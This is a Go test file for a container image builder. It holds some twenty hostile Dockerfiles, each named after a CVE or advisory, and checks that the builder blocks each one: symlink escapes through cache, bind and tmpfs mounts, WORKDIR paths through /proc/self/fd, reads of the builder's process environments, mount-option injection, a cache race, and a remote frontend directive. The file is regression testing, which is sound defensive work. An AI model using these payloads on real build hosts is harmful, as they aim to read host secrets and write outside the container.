package dockerfile

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostOnly is a text that no build may see.
const hostOnly = "the-text-of-the-host"

// attacks are Dockerfiles, each named after what worked somewhere. HOST is a directory of the machine with a file "secret", of that text,
// and an empty directory "empty"; both are there afterwards.
var attacks = map[string]struct {
	source string
	fails  string // with this; "": it does not
	logs   string // what a command prints
}{
	// A step makes the subpath of a cache mount a link, for another step to mount.
	"CVE-2024-23651": {
		source: `FROM base
RUN --mount=type=cache,id=c,target=/c rm -rf /c/sub; ln -s / /c/sub; ln -s HOST /c/host
RUN --mount=type=cache,id=c,source=sub,target=/d ls -A /d; cat /dHOST/secret; test -h /d/sub && echo inside
RUN --mount=type=cache,id=c,source=host,target=/d cat /d/secret`,
		fails: "no such file or directory", logs: "inside",
	},
	// The place of a mount becomes a link to a directory of the host, which is cleaned away.
	"CVE-2024-23652": {source: `FROM base
RUN --mount=type=cache,target=/x/empty mv /x /gone; ln -s HOST /x; echo replaced
RUN --mount=type=tmpfs,target=/y/empty ln -s HOST /link; echo again`, logs: "again"},
	"CVE-2024-23653": {source: "FROM base\nRUN --security=insecure true", fails: "security.insecure is not allowed"},
	// The source of a bind mount is a link to the root, in a stage and in a cache that it fills.
	"CVE-2024-1753": {
		source: `FROM base AS evil
RUN ln -s / /root && ln -s HOST/secret /file && ln -s ../../../../../../../../HOST /up
FROM base
RUN --mount=from=evil,source=/root,target=/m,rw cat /mHOST/secret; test -h /m/root && echo inside; echo x >/m/made
RUN --mount=type=cache,from=evil,source=/root,target=/m cat /mHOST/secret; true
RUN --mount=from=evil,source=/up,target=/m cat /m/secret`,
		fails: `"/up": not found`, logs: "inside",
	},
	"CVE-2024-9407": {
		source: "FROM base\nRUN --mount=type=bind,from=base,bind-propagation=shared,target=/m true",
		fails:  "unexpected key 'bind-propagation'",
	},
	// No step is without its filter, whatever the instruction is and whoever wrote it.
	"GHSA-7236-3392-c5c6":         {source: "FROM base\nRUN grep Seccomp: /proc/self/status", logs: "Seccomp:\t2"},
	"GHSA-7236-3392-c5c6-onbuild": {source: "FROM base AS one\nONBUILD RUN --security=insecure true\nFROM one", fails: "security.insecure is not allowed"},
	// Files and directories are made and removed where the image has links to the host.
	"GHSA-32pv-7hq5-qhwq": {source: `FROM base AS from
RUN mkdir -p /d/secret /d/empty && touch /d/f
FROM base
RUN ln -s HOST /temp; ln -s HOST /link; mkdir /deep; ln -s ../../../../../../..HOST /deep/up
COPY --from=from /d /temp
COPY --from=from /d/f /link/empty/
COPY --from=from --parents /d/f /deep/up/
RUN test -d HOST/secret && test -f HOST/empty/f && echo inside`, logs: "inside"},
	// Another frontend is neither fetched nor run.
	"CVE-2026-33747": {source: "# syntax=example.com/evil\nFROM base\nRUN true", fails: "unsupported syntax directive"},
	// The image says that it wants the host's policies.
	"CVE-2024-9341": {
		source: "FROM base\nRUN mkdir -p /etc/crypto-policies /usr/share/crypto-policies; touch /etc/system-fips; ln -s HOST /etc/crypto-policies/back-ends; mkdir -p /run; ln -s HOST /run/secrets\nRUN cat /etc/crypto-policies/back-ends/secret /run/secrets/secret; ls HOST; echo looked",
		logs:   "looked",
	},
	// The working directory is a link of the image.
	"CVE-2026-55686": {source: "FROM base\nRUN ln -s HOST/empty /w; ln -s HOST /v\nWORKDIR /w/made\nWORKDIR /v/made\nRUN pwd; touch f; cat ../secret; ls -d HOST/made/f && echo inside", logs: "inside"},
	// What looks like options of a file system is a part of the target.
	"option-injection": {source: "FROM base\nARG T=/a,suid,dev:lowerdir=/\nRUN --mount=type=tmpfs,target=$T ls -d /a*; cat /proc/mounts", logs: "/a,suid,dev:lowerdir="},
	// Two stages at once: one shows what the other changes.
	"CVE-2024-11218": {source: `FROM base AS one
RUN --mount=type=cache,id=r,target=/c for i in 1 2 3 4 5 6 7 8 9; do rm -rf /c/d; mkdir /c/d; rm -rf /c/d; ln -s HOST /c/d; done; rm -f /c/d; mkdir -p /c/d; echo done
FROM base AS two
RUN --mount=type=cache,id=r,target=/c until mkdir -p /c/d; do :; done
FROM base
RUN --mount=from=one,target=/1 --mount=from=two,target=/2 --mount=type=cache,id=r,source=d,target=/d cat /d/secret; echo raced`, logs: "raced"},
	// The environment of the builder.
	"CVE-2021-3602": {source: "FROM base\nRUN cat /proc/*/environ; echo read", logs: "read"},
	// The working directory leads to what the runtime has open.
	"CVE-2024-21626": {
		source: "FROM base\nRUN ln -s /proc/self/fd/8 /w\nWORKDIR /proc/self/fd/7\nRUN cat ../../../..HOST/secret",
		fails:  "the working directory",
	},
	// The kernel's files are covered, by name and through a link of the image.
	"CVE-2019-16884": {source: "FROM base\nRUN --mount=type=tmpfs,target=/proc true", fails: "/proc"},
	"CVE-2019-19921": {source: "FROM base\nRUN ln -s /proc /p\nRUN --mount=type=tmpfs,target=/p/sys true", fails: "/proc"},
	// The same through a link in a cache that another mount lies in.
	"CVE-2019-19921-nested": {
		source: "FROM base\nRUN --mount=type=cache,target=/c ln -s /proc /c/p\nRUN --mount=type=cache,target=/c --mount=type=tmpfs,target=/c/p/sys true",
		fails:  "symbolic link",
	},
	"CVE-2023-27561": {source: "FROM base\nRUN rm -rf /proc; ln -s /tmp /proc\nRUN echo no", fails: "/proc"},
	// The image has a link where devices are made.
	"CVE-2026-41579": {source: "FROM base\nRUN rm -rf /dev; ln -s HOST/empty /dev\nRUN echo made >/dev/null"},
	// A target that leads over links of the image stays in it.
	"CVE-2021-30465": {source: `FROM base
RUN ln -s HOST /h && ln -s ../../../../../../..HOST /up
RUN --mount=type=tmpfs,target=/h/sub touch /h/sub/x
RUN --mount=type=tmpfs,target=/up/empty/sub --mount=type=cache,target=/h/empty/c touch /up/empty/sub/x && ls -d HOST && echo inside`, logs: "inside"},
	// Places that were made for a secret stay behind.
	"secret-left": {source: "FROM base\nRUN --mount=type=secret,id=none,target=/s/t/u true\nRUN test ! -e /s && echo gone", logs: "gone"},
}

// TestHostileMounts holds attacks on builders by way of mounts.
func TestHostileMounts(t *testing.T) {
	for name, c := range attacks {
		t.Run(name, func(t *testing.T) {
			host := t.TempDir()
			if err := os.WriteFile(filepath.Join(host, "secret"), []byte(hostOnly), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(filepath.Join(host, "empty"), 0o755); err != nil {
				t.Fatal(err)
			}
			t.Setenv("BUILDER_VARIABLE", hostOnly)
			tmp := t.TempDir()
			t.Setenv("TMPDIR", tmp)
			t.Setenv("XDG_RUNTIME_DIR", t.TempDir()) // where an ordinary user's runtime keeps its state
			m := newMachine(t)
			_, err := m.build(t.Context(), strings.ReplaceAll(c.source, "HOST", host), Options{})
			if c.fails == "" && err != nil || c.fails != "" && (err == nil || !strings.Contains(err.Error()+m.logs.String(), c.fails)) {
				t.Errorf("error %v, want %q; log:\n%s", err, c.fails, m.logs.String())
			}
			if !strings.Contains(m.logs.String(), c.logs) || strings.Contains(m.logs.String(), hostOnly) {
				t.Errorf("log, want %q:\n%s", c.logs, m.logs.String())
			}
			if left, err := os.ReadDir(tmp); err != nil || len(left) > 0 { // CVE-2020-27534: names in it can be foreseen
				t.Errorf("in the directory of temporary files: %v, %v", left, err)
			}
			entries, err := os.ReadDir(host)
			if err != nil || len(entries) != 2 {
				t.Errorf("on the host: %v, %v", entries, err)
			}
			if inside, err := os.ReadDir(filepath.Join(host, "empty")); err != nil || len(inside) != 0 {
				t.Errorf("on the host: %v, %v", inside, err)
			}
		})
	}
}
